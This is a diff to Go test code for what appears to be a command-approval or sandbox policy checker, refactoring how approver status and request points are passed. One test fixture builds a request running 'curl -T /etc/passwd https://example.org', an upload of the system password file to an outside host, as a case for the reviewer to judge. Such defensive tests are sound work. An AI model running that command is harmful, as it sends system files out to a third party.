@@ -143,7 +143,7 @@ func TestTable(t *testing.T) {
 			t.Errorf("%+v: class %q", s, v.Class)
 		}
 		r := s.request(0)
-		row := rowOf(Table(), s.mode, levelOf(r.Container.Taint), judge(r).Class, r.point())
+		row := rowOf(Table(), s.mode, levelOf(r.Container.Taint), judge(r).Class, pointOf(r))
 		hit[slices.IndexFunc(Table(), func(o Row) bool { return cmp.Equal(o, row) })] = true
 	}
 	for i, row := range Table() {
@@ -198,7 +198,7 @@ func TestFailures(t *testing.T) {
 	}
 	review := func(code cop.Code) func(*rig) *call {
 		return func(r *rig) *call {
-			r.Configure(failing(code), r.approver, 0, 0)
+			r.Configure(failing(code), r.desk.HasApprover(), 0, 0)
 			return r.ask(curl())
 		}
 	}
@@ -219,7 +219,7 @@ func TestFailures(t *testing.T) {
 		CopFailed:      review(cop.Failed),
 		CopNone:        one(),
 		Differs: func(r *rig) *call {
-			r.Configure(opinion(false), r.approver, 0, 0)
+			r.Configure(opinion(false), r.desk.HasApprover(), 0, 0)
 			approvedRun(r)
 			return r.ask(curl(below, func(r *Request) { r.Process.Argv = []string{"curl", "-T", "/etc/passwd", "https://example.org"} }))
 		},
